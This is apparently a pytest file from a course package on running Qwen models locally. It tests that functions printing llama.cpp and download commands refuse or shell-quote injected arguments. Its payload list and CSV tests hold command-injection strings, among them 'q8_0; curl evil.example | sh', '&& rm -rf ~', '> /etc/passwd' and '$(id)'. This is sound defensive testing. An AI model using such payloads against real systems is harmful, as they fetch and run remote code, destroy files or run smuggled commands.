"""Printed commands (issue 29, item 6): a shell line the course prints is built from validated parts only (a local
format of the formats table, a KV cache type llama.cpp knows, a context within the checkpoint's limit, names from
the tables) and shell-quoted. The functions that print commands are found, not listed: every public function
whose code holds a command-line tool's name. Each of their arguments is given shell metacharacters in turn; the
call must refuse them or print them quoted, so the line's words and operators stay the valid call's."""

from __future__ import annotations

import ast
import importlib
import inspect
import pkgutil
import re
import shlex
import sys
from pathlib import Path

import pytest

import qwen_lessons
from qwen_lessons import data, local_runtime

sys.path.insert(0, str(Path(__file__).resolve().parent))
import hostile_calls  # noqa: E402  (valid arguments by parameter name)

TOOLS = ("huggingface-cli", "llama-server", "llama-cli", "ollama ", "mlx_lm", "vllm ", "pip install", "docker ",
         "curl ", "wget ", "git clone", "python -m ")
PAYLOADS = ["q8_0; curl evil.example | sh", "$(touch /tmp/owned)", "`id`", "a b", "x' y", "x\ny", "&& rm -rf ~",
            "> /etc/passwd", "f16 #", "Qwen/Qwen2.5-7B-Instruct; reboot", "q4_k_m|sh", "${HOME}", "*", "~root"]


def printers() -> list[tuple[str, object]]:
    """(qualified name, function) of every public function whose source names a command-line tool and whose valid
    call returns text with a line starting with one (a message that advises `pip install` prints no command)."""
    examples = hostile_calls._examples()
    found = []
    for info in pkgutil.walk_packages(qwen_lessons.__path__, "qwen_lessons."):
        if info.name in hostile_calls.PLUMBING:
            continue  # takes no learner values (env's report names `pip install` as advice, with no arguments in it)
        module = importlib.import_module(info.name)
        tree = ast.parse(inspect.getsource(module))
        for node in tree.body:
            if isinstance(node, ast.FunctionDef) and not node.name.startswith("_"):
                strings = [n.value for n in ast.walk(node) if isinstance(n, ast.Constant) and isinstance(n.value, str)]
                if any(tool in text for text in strings for tool in TOOLS) and not info.name.startswith(
                        ("qwen_lessons.widgets.", "qwen_lessons.checks.")):
                    qualified, function = f"{info.name}.{node.name}", getattr(module, node.name)
                    arguments, _ = hostile_calls.baseline(qualified, function, None, examples)
                    result = function(**arguments) if arguments is not None else None
                    texts = list(result.values()) if isinstance(result, dict) else [result]
                    if any(isinstance(text, str) and text.lstrip().startswith(tuple(t.strip() for t in TOOLS))
                           for text in texts):
                        found.append((qualified, function))
    return found


PRINTERS = printers()


def shape(line: str) -> tuple[list[str], list[str]]:
    """(operators, command words) of a shell line as a POSIX shell reads it: quoted text is one word."""
    lexer = shlex.shlex(line, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    tokens = list(lexer)
    operators = [t for t in tokens if t and set(t) <= set("();<>|&")]
    commands = [tokens[0]] + [tokens[i + 1] for i, t in enumerate(tokens[:-1]) if t in operators]
    return operators, commands


def unquoted(line: str) -> str:
    """The line without its single-quoted parts (where $, ` and \\ mean nothing to the shell)."""
    return re.sub(r"'[^']*'", "", line)


def test_the_printers_are_found():
    print("functions that print commands:", [name for name, _ in PRINTERS])
    assert "qwen_lessons.local_runtime.commands" in dict(PRINTERS)


@pytest.mark.parametrize(("qualified", "function"), PRINTERS, ids=[name for name, _ in PRINTERS])
def test_shell_metacharacters_in_every_argument_are_refused_or_quoted(qualified, function):
    examples = hostile_calls._examples()
    arguments, reason = hostile_calls.baseline(qualified, function, None, examples)
    assert arguments is not None, reason
    parameters = list(inspect.signature(function).parameters)
    cases = [dict(arguments), {**arguments, "kv_cache_dtype": "q8_0"}] if "kv_cache_dtype" in parameters else [arguments]
    checked = 0
    for valid in cases:
        baseline = function(**valid)
        for parameter in parameters:
            for payload in PAYLOADS:
                try:
                    lines = function(**{**valid, parameter: payload})
                except ValueError:
                    continue  # refused, naming the argument (DataFileError is a ValueError too)
                checked += 1
                for tool, line in lines.items():
                    assert shape(line) == shape(baseline[tool]), f"{qualified}({parameter}={payload!r}): {line}"
                    assert set("$`\n") & set(unquoted(line)) <= set("$`\n") & set(unquoted(baseline[tool])), line
    print(f"{qualified}: {checked} hostile calls printed a line (quoted); the rest were refused")


def test_a_kv_cache_type_with_a_command_is_refused():
    with pytest.raises(ValueError, match=r"kv_cache_dtype must be one of 'f16', 'q8_0', 'q4_0'"):
        local_runtime.commands("Qwen/Qwen2.5-7B-Instruct", "q4_k_m", 8192, "q8_0; curl evil.example | sh")


def test_a_context_beyond_the_checkpoints_limit_is_refused():
    with pytest.raises(ValueError, match=r"context_tokens must be a whole number from 1 to 32,768"):
        local_runtime.commands("Qwen/Qwen2.5-7B-Instruct", "q4_k_m", 40_000)  # YaRN reaches it; no -c flag does
    with pytest.raises(ValueError, match=r"context_tokens must be at most 131,072 tokens"):
        local_runtime.commands("Qwen/Qwen2.5-7B-Instruct", "q4_k_m", 10_000_000)  # beyond any documented context
    assert "-c 32768 " in local_runtime.commands("Qwen/Qwen2.5-7B-Instruct", "q4_k_m", 32768)["llama-server"]


def test_more_gpu_layers_than_the_model_has_are_refused():
    with pytest.raises(ValueError, match=r"n_gpu_layers must be from 0 to 29"):
        local_runtime.commands("Qwen/Qwen2.5-7B-Instruct", "q4_k_m", 8192, n_gpu_layers=1000)


def test_only_a_local_format_is_printed():
    with pytest.raises(ValueError, match="quantization must be a local format"):
        local_runtime.commands("Qwen/Qwen2.5-7B-Instruct", "bf16", 8192)


@pytest.mark.parametrize("column", ["repo", "file"])
def test_a_table_name_with_shell_characters_is_refused(tmp_path, monkeypatch, column):
    import shutil

    shutil.copytree(Path(data.data_dir()), tmp_path / "data")
    path = tmp_path / "data" / local_runtime.DOWNLOADS_FILE
    text = path.read_text(encoding="utf-8")
    row = next(line for line in text.splitlines()[1:] if ",llama.cpp," in line)
    model, engine, quant, repo, file = row.split(",")[:5]
    bad = {"repo": f"{repo}$(id)", "file": f"x;id;{file}"}[column]
    new_row = ",".join([model, engine, quant, bad if column == "repo" else repo, bad if column == "file" else file,
                        *row.split(",")[5:]])
    path.write_text(text.replace(row, new_row), encoding="utf-8")
    (tmp_path / "data" / data.MANIFEST_FILE).write_text(data._manifest_text(tmp_path / "data"), encoding="utf-8")
    monkeypatch.setenv(data.DATA_ENV_VAR, str(tmp_path / "data"))
    with pytest.raises(data.DataFileError, match=rf"local_downloads.csv: the {'repository' if column == 'repo' else 'file'}"):
        local_runtime.commands(model, quant, 4096)
